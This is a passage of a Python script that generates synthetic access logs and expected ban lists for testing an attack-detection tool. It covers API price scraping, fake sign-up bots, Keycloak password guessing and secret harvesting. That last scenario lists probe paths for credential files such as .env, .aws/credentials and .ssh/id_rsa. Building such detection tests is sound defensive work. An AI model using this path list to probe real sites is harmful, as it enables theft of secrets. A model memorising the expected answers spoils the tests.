        for term in r.sample(["Château d'Yquem", "\"Grüner Veltliner\" 2022", "Riesling (trocken)", "Côtes-du-Rhône", "Moët & Chandon", "Barolo <50€", "d'Arenberg Dead Arm", "Cabernet/Merlot"], r.randint(1, 3)):
            L.add(t, ip2, "GET", "/catalogsearch/result/?q=%s" % q(term), 200, 50000, s.url("/"), ua2)
            t += r.uniform(10, 60)
    return L, "Burp Suite active scan through a browser session: ~1,000 requests at ~10/s injecting SQLi/XSS/SSTI/command/OAST(oastify.com)/traversal payloads into 4 parameters with Chrome UA and Referer; 20 shoppers searching with quotes, ampersands and brackets; office NAT", bad, good


# ---------------------------------------------------------------------------
# 13. Price scraping through the public product API.
# Models: a competitor's scraper walking /api/v2/products?page=N&per_page=100
# and then /api/v2/products/<sku>/price for every SKU, spread over 25
# datacenter addresses (one /24 each from 3 hosters), each ~1 request/s,
# python-httpx UA, no assets; runs the full catalogue (~14,000 SKUs) in ~10
# minutes. Around it: the shop's own mobile app and a partner's feed import.
@scen
def sku_price_scraper_api():
    L = Log(T0, 613, "shop")
    s = shop_site("www.example-elektro.de")
    dur = 2400
    good = background(L, s, dur, 30)
    r = L.rnd
    bad = []
    nets = ["45.87.154", "194.26.29", "80.66.88"]
    ips = [L.ip(nets[i % 3]) for i in range(25)]
    for ip in ips:
        bad.append((ip, "price scraper on product API"))
    t = 300
    ua = "python-httpx/0.27.2"
    for page in range(1, 141):
        ip = r.choice(ips)
        L.add(t, ip, "GET", "/api/v2/products?page=%d&per_page=100&sort=id" % page, 200, 180000, "-", ua)
        t += 0.05
        for j in range(100):
            ip = r.choice(ips)
            L.add(t, ip, "GET", "/api/v2/products/%d/price?region=de" % (100000 + page * 100 + j), r.choice([200] * 30 + [404]), 240, "-", ua)
            t += r.expovariate(25)
    app = L.ip()
    good.append((app, "carrier CGNAT with the shop's app users"))
    for k in range(40):
        t = r.uniform(0, dur)
        uaa = "ElektroApp/3.8.1 (iPhone; iOS 18.1)"
        for j in range(r.randint(5, 30)):
            L.add(t, app, "GET", r.choice(["/api/v2/products?page=%d&per_page=20&category=%d" % (r.randint(1, 5), r.randint(1, 40)), "/api/v2/products/%d" % r.randint(100000, 114000), "/api/v2/products/%d/price?region=de" % r.randint(100000, 114000)]), 200, 5000, "-", uaa)
            t += r.uniform(1, 15)
    partner = L.ip()
    good.append((partner, "partner feed import (daily, 1 request per page)"))
    t = 1500
    for page in range(1, 141):
        L.add(t, partner, "GET", "/api/v2/products?page=%d&per_page=100&updated_since=2026-12-01" % page, 200, 180000, "-", "PartnerFeedSync/2.1 (+https://partner.example-marktplatz.de)")
        t += r.uniform(1.5, 3)
    return L, "Price scraping of a 14,000-SKU catalogue through the product API from 25 datacenter addresses in 3 /24s (~1 req/s each, python-httpx, 10 minutes); 40 app users behind a CGNAT and a partner's paginated feed import listed as never-banned; office NAT", bad, good


# ---------------------------------------------------------------------------
# 14. Secret harvesting: .git, .env, cloud credentials.
# Models: the mass secret-harvesting scanners (used in the 2024 ".env"
# extortion campaign and by git-dumper users): per address 40-120 paths at
# ~5/s: /.git/config, /.git/HEAD, /.env and its variants, /.aws/credentials,
# /config.json, /.vscode/sftp.json, /.docker/config.json, /phpinfo.php,
# /_profiler/phpinfo, /actuator/env; UA Go-http-client or a fake Chrome.
# Around it: a developer's deploy tool and IDE hitting real config URLs.
@scen
def secret_harvest_git_env():
    L = Log(T0, 614, "app")
    s = app_site("www.example-agentur.de", ["/", "/leistungen", "/referenzen", "/blog", "/kontakt"])
    dur = 3600
    good = background(L, s, dur, 30)
    r = L.rnd
    bad = []
    base = ["/.git/config", "/.git/HEAD", "/.git/index", "/.git/logs/HEAD", "/.env", "/.env.local", "/.env.production", "/.env.backup", "/.env.save", "/api/.env", "/app/.env", "/backend/.env", "/laravel/.env", "/admin/.env", "/.aws/credentials", "/.aws/config", "/config.json", "/.vscode/sftp.json", "/.docker/config.json", "/docker-compose.yml", "/.npmrc", "/.pypirc", "/.ssh/id_rsa", "/phpinfo.php", "/info.php", "/_profiler/phpinfo", "/actuator/env", "/actuator/heapdump", "/config/database.yml", "/wp-config.php.bak", "/.svn/wc.db", "/.hg/hgrc", "/secrets.yml", "/credentials.json", "/firebase.json", "/.s3cfg", "/sendgrid.env", "/.boto", "/server.js", "/config.js"]
    for b in range(5):
        ip = L.ip()
        bad.append((ip, "secret harvester (.git/.env/.aws)"))
        ua = r.choice(["Go-http-client/1.1", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36", "curl/7.88.1"])
        t = r.uniform(0, dur - 100)
        for p in r.sample(base, r.randint(25, len(base))):
            L.add(t, ip, "GET", p, 404, 150, "-", ua)
            t += r.expovariate(5)
    dev = L.ip()
    good.append((dev, "agency developer: deploy hooks, /config.json of the SPA, sourcemaps"))
    for k in range(25):
        t = r.uniform(0, dur)
        L.add(t, dev, "GET", "/config.json", 200, 800, s.url("/"), CHROME)
        L.add(t + 0.1, dev, "GET", "/assets/app-7c1e.js.map", r.choice([200, 404]), 900000, "-", CHROME)
        L.add(t + 0.2, dev, "GET", "/manifest.webmanifest", 200, 500, s.url("/"), CHROME)
        L.add(t + 0.3, dev, "GET", "/.well-known/security.txt", 200, 300, "-", CHROME)
    return L, "Secret harvesting: 5 addresses each requesting 25-40 of .git/config, .env variants, .aws/credentials, sftp.json, docker config, phpinfo, actuator at ~5/s (all 404); an agency developer fetching /config.json, source maps and well-known files; office NAT", bad, good


# ---------------------------------------------------------------------------
# 15. Fake account sign-ups (registration abuse).
# Models: a bot creating throw-away accounts for referral bonuses / spam:
# GET /register, POST /register (302), GET /verify-email?token=.. from its
# disposable-mail reader, GET /dashboard, then POST /api/referral/redeem;
# 8 addresses each making 20-40 accounts in an hour with a fixed Chrome UA.
# Around it: a university class registering together behind a campus NAT
# (40 sign-ups from one address in 15 minutes), which is legitimate.
@scen
def fake_signup_bots():
    L = Log(T0, 615, "app")
    s = app_site("app.example-lernplattform.de", ["/", "/register", "/login", "/dashboard", "/kurse", "/preise"])
    dur = 3600
    good = background(L, s, dur, 25)
    r = L.rnd
    bad = []
    for b in range(8):
        ip = L.ip()
        bad.append((ip, "fake sign-up bot"))
        ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 Safari/537.36"
        t = r.uniform(0, 600)
        for a in range(r.randint(20, 40)):
            L.add(t, ip, "GET", "/register?ref=%s" % r.choice(["BONUS50", "FRIEND20"]), 200, 9000, "-", ua)
            L.add(t + r.uniform(2, 5), ip, "POST", "/register", r.choice([302] * 9 + [422]), 0, s.url("/register"), ua)
            L.add(t + r.uniform(20, 60), ip, "GET", "/verify-email?token=%s" % hexid(r, 40), 302, 0, "-", ua)
            L.add(t + r.uniform(61, 65), ip, "GET", "/dashboard", 200, 20000, "-", ua)
            L.add(t + r.uniform(66, 70), ip, "POST", "/api/referral/redeem", r.choice([200, 200, 409]), 100, s.url("/dashboard"), ua)
            t += r.uniform(60, 150)
    campus = L.ip()
    good.append((campus, "campus NAT: a class of 40 registering together"))
    for k in range(40):
        ua = r.choice(UAS)
        t = 1200 + r.uniform(0, 900)
        c = set()
        page_view(L, s, t, campus, ua, "/register", "-", c)
        L.add(t + r.uniform(30, 90), campus, "POST", "/register", r.choice([302] * 6 + [422]), 0, s.url("/register"), ua)
        L.add(t + r.uniform(120, 400), campus, "GET", "/verify-email?token=%s" % hexid(r, 40), 302, 0, "-", ua)
        page_view(L, s, t + r.uniform(401, 420), campus, ua, "/dashboard", "-", c)
        page_view(L, s, t + r.uniform(421, 500), campus, ua, "/kurse", s.url("/dashboard"), c)
    return L, "Registration abuse: 8 addresses each creating 20-40 throw-away accounts (register, verify via disposable mail, dashboard, referral redeem) with one Chrome UA; a university class of 40 registering from one campus NAT in 15 minutes; office NAT", bad, good


# ---------------------------------------------------------------------------
# 16. Keycloak token endpoint password-grant guessing.
# Models: an attacker who found a public Keycloak client with direct access
# grants enabled: POST /realms/<r>/protocol/openid-connect/token with
# grant_type=password (body not logged), 401 invalid_grant, ~4/s from 2
# addresses with python-requests, later switching to 1/5 s from another
# address after the first got temporarily locked (Keycloak brute-force
# detection still answers 401). Around it: real apps refreshing tokens
# (200, with occasional 400 invalid_grant for expired refresh tokens) at
# high volume from the company's backend servers.
@scen
def keycloak_password_grant_guessing():
    L = Log(T0, 616, "sso")
    s = app_site("sso.example-konzern.com", ["/realms/staff/account/", "/realms/staff/protocol/openid-connect/auth?client_id=portal&response_type=code&scope=openid"])
    dur = 2400
    good = background(L, s, dur, 20)
    r = L.rnd
    bad = []
    tok = "/realms/staff/protocol/openid-connect/token"
    for b, (rate, start, end) in enumerate([(4.0, 300, 900), (4.0, 350, 900), (0.2, 950, 2350)]):
        ip = L.ip()
        bad.append((ip, "password-grant guessing at the token endpoint"))
        t = start
        while t < end:
            L.add(t, ip, "POST", tok, 401, 70, "-", "python-requests/2.32.3")
            t += r.expovariate(rate)
    for k in range(4):
        ip = L.ip("212.18.40")
        good.append((ip, "backend server refreshing tokens for its users"))
        ua = r.choice(["Java/17.0.13", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Go-http-client/2.0", "Apache-HttpClient/4.5.14 (Java/17.0.13)"])
        t = r.uniform(0, 5)
        while t < dur:
            st = 200 if r.random() > 0.06 else 400
            L.add(t, ip, "POST", tok, st, 3500 if st == 200 else 90, "-", ua)
            if r.random() < 0.1:
                L.add(t + 0.05, ip, "GET", "/realms/staff/protocol/openid-connect/certs", 200, 2800, "-", ua)
            t += r.expovariate(1.5)
    for k in range(10):
        ip = L.ip()
        if k < 4:
            good.append((ip, "employee typing a wrong password in the login form"))
        ua = r.choice(UAS)
        t = r.uniform(0, dur - 100)
        L.add(t, ip, "GET", s.pages[1], 200, 7000, "https://portal.example-konzern.com/", ua)
        for f in range(r.choice([0, 1, 2, 3])):
            L.add(t + 6 + f * 5, ip, "POST", "/realms/staff/login-actions/authenticate?session_code=%s&execution=%s&client_id=portal&tab_id=%s" % (hexid(r, 43), uuid.UUID(int=r.getrandbits(128)), hexid(r, 11)), 200, 7000, s.url(s.pages[1]), ua)
        L.add(t + 30, ip, "POST", "/realms/staff/login-actions/authenticate?session_code=%s&execution=%s&client_id=portal&tab_id=%s" % (hexid(r, 43), uuid.UUID(int=r.getrandbits(128)), hexid(r, 11)), 302, 0, s.url(s.pages[1]), ua)
        L.add(t + 30.5, ip, "POST", tok, 200, 3500, "https://portal.example-konzern.com/", ua)
    return L, "Keycloak password-grant guessing: 2 addresses POSTing the token endpoint at ~4/s for 10 min (401) and a third at 1 per 5 s for 23 min; 4 backend servers refreshing tokens at ~1.5/s (6% 400) and 10 employees with login-form typos; office NAT", bad, good


def main():
    only = sys.argv[1:]
    for f in SC:
        name = f.__name__.replace("_", "-")
        if only and name not in only:
            continue
        L, desc, bad, good = f()
        n = L.write(os.path.join(OUT, name + ".log"))
        seen, bb, gg = set(), [], []
        for ip, c in bad:
            if ip not in seen:
                seen.add(ip)
                bb.append((ip, c))
        for ip, c in good:
            if ip not in seen:
                seen.add(ip)
                gg.append((ip, c))
        expect(os.path.join(OUT, name + ".expect.toml"), "fresh-s12 attack: " + desc, banned=bb, not_banned=gg, lines=n)
        print(name, n)


main()
